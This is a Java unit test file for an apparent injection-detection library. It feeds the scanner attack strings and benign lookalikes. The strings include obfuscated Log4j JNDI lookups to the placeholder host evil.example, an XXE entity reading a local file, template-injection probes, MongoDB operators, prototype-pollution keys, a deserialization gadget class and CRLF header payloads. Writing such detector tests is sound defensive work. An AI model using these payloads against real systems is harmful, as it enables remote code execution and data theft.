package dev.bulwark.runtime.detect;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** JNDI lookups, XXE, template injection, NoSQL operators, prototype pollution, deserialization. */
class InjectionIntoInterpretersTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${jndi:ldap://evil.example/x}",
        "${${lower:J}${upper:n}di:rmi://evil.example/x}",
        "${${a:-j}${b:-n}${c:-d}${d:-i}:dns://evil.example}",
        "${jnd${upper:\u0131}:ldap://evil.example/x}",
        "%24%7Bjndi:ldap://evil.example/x%7D",
        "\\u0024{jndi:ldap://evil.example/x}"
      })
  void resolvesLog4jLookupsToFindJndiHoweverObfuscated(String payload) {
    assertThat(Scan.value(payload, AttackClass.JNDI_INJECTION))
        .hasValueSatisfying(d -> {
          assertThat(d.rule()).isEqualTo("jndi.lookup");
          assertThat(d.confidence()).isGreaterThanOrEqualTo(Confidence.CONFIRMED);
        });
  }

  @Test
  void ratesEnvironmentLookupsBelowJndiAndIgnoresOtherPlaceholders() {
    assertThat(Scan.value("${env:AWS_SECRET_ACCESS_KEY}", AttackClass.JNDI_INJECTION))
        .hasValueSatisfying(d -> assertThat(d.confidence()).isLessThan(Confidence.STRONG));
    assertThat(Scan.value("${AWS::AccountId}", AttackClass.JNDI_INJECTION)).isEmpty();
    assertThat(Scan.value("Hello ${name}", AttackClass.JNDI_INJECTION)).isEmpty();
  }

  @Test
  void boundsNestedLookups() {
    String deep = "${".repeat(5000) + "jndi:x" + "}".repeat(5000);
    assertThat(Scan.value(deep)).isNotNull();
  }

  @Test
  void findsExternalEntitiesButNotAPlainDoctype() {
    assertThat(Scan.value("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/x\">]><a>&b;</a>",
        AttackClass.XXE)).hasValueSatisfying(d -> assertThat(d.rule()).isEqualTo("xxe.external-entity"));
    assertThat(Scan.value("<!DOCTYPE html><html></html>", AttackClass.XXE)).isEmpty();
    assertThat(Scan.value("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
        + "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">", AttackClass.XXE)).isEmpty();
  }

  @Test
  void findsTemplateProbesAndCodeExecutionButNotTemplateText() {
    assertThat(Scan.value("{{ 6*'6' }}", AttackClass.TEMPLATE_INJECTION)).isPresent();
    assertThat(Scan.value("{{self.__init__.__globals__}}", AttackClass.TEMPLATE_INJECTION))
        .hasValueSatisfying(d -> assertThat(d.rule()).isEqualTo("ssti.code-execution"));
    assertThat(Scan.value("{{ user.name }} owes {{ amount }}", AttackClass.TEMPLATE_INJECTION))
        .isEmpty();
    assertThat(Scan.value("${2024-01-31}", AttackClass.TEMPLATE_INJECTION)).isEmpty();
    assertThat(Scan.value("{% $VIEWS|format:\"%d\" %} views", AttackClass.TEMPLATE_INJECTION))
        .isEmpty();
  }

  @Test
  void findsMongoOperatorsInKeysLocationsAndJsonText() {
    assertThat(Scan.first(Scan.key("password[$ne]"), AttackClass.NOSQL_INJECTION)).isPresent();
    assertThat(Scan.first(Scan.key("$where"), AttackClass.NOSQL_INJECTION))
        .hasValueSatisfying(d -> assertThat(d.rule()).isEqualTo("nosql.code-operator"));
    assertThat(Scan.first(Detectors.defaults().detect(Input.value("body.$.user.$gt", "")),
        AttackClass.NOSQL_INJECTION)).isPresent();
    assertThat(Scan.value("{\"pin\": {\"$regex\": \"^1\"}}", AttackClass.NOSQL_INJECTION))
        .isPresent();
  }

  @Test
  void ignoresDollarKeysThatAreNotOperatorsAndTheJsonRoot() {
    assertThat(Scan.first(Scan.key("$default"), AttackClass.NOSQL_INJECTION)).isEmpty();
    assertThat(Detectors.defaults().detect(Input.value("body.$.items[0].name", "pen"))).isEmpty();
    assertThat(Scan.value("costs $5 or $6", AttackClass.NOSQL_INJECTION)).isEmpty();
  }

  @Test
  void findsPrototypePollutionKeysButNotTheWordsAlone() {
    assertThat(Scan.first(Scan.key("__proto__"), AttackClass.PROTOTYPE_POLLUTION)).isPresent();
    assertThat(Scan.first(Scan.key("constructor[prototype][x]"), AttackClass.PROTOTYPE_POLLUTION))
        .isPresent();
    assertThat(Scan.first(Scan.key("constructor"), AttackClass.PROTOTYPE_POLLUTION)).isEmpty();
    assertThat(Scan.first(Scan.key("prototype"), AttackClass.PROTOTYPE_POLLUTION)).isEmpty();
    assertThat(Scan.value("The constructor and the prototype pattern",
        AttackClass.PROTOTYPE_POLLUTION)).isEmpty();
  }

  @Test
  void findsSerializedObjectsAndGadgetsButNotOrdinaryTypeHints() {
    assertThat(Scan.value("rO0ABXQAJ2hlbGxvIHdvcmxkIHNlcmlhbGl6ZWQgaW4gamF2YSBzdHJlYW0gZm9ybWF0",
        AttackClass.DESERIALIZATION)).isPresent();
    assertThat(Scan.value("{\"@class\":\"org.apache.commons.collections.functors."
        + "InvokerTransformer\"}", AttackClass.DESERIALIZATION)).isPresent();
    assertThat(Detectors.defaults().detect(Input.value("body.$.@type", "com.acme.model.Order")))
        .anySatisfy(d -> assertThat(d.confidence()).isLessThan(Confidence.DEFAULT_BLOCK_THRESHOLD));
    assertThat(Detectors.defaults().detect(Input.value("body.$.@type", "Person"))).isEmpty();
    assertThat(Scan.value("I love rO0ABsters", AttackClass.DESERIALIZATION)).isEmpty();
  }

  @Test
  void findsLineBreaksInHeadersAndHeaderLinesInValues() {
    assertThat(Scan.first(Scan.header("text/html\r\nX-Evil: 1"), AttackClass.CRLF_INJECTION))
        .isPresent();
    assertThat(Scan.first(Scan.header("text/html%0d%0aX-Evil: 1"), AttackClass.CRLF_INJECTION))
        .isPresent();
    assertThat(Scan.value("/next\r\nSet-Cookie: a=b", AttackClass.CRLF_INJECTION)).isPresent();
    assertThat(Scan.value("Dear team,\nthanks.\nFrom: Ada", AttackClass.CRLF_INJECTION)).isEmpty();
    assertThat(Scan.value("--boundary\r\nContent-Type: text/plain", AttackClass.CRLF_INJECTION))
        .isEmpty();
  }
}
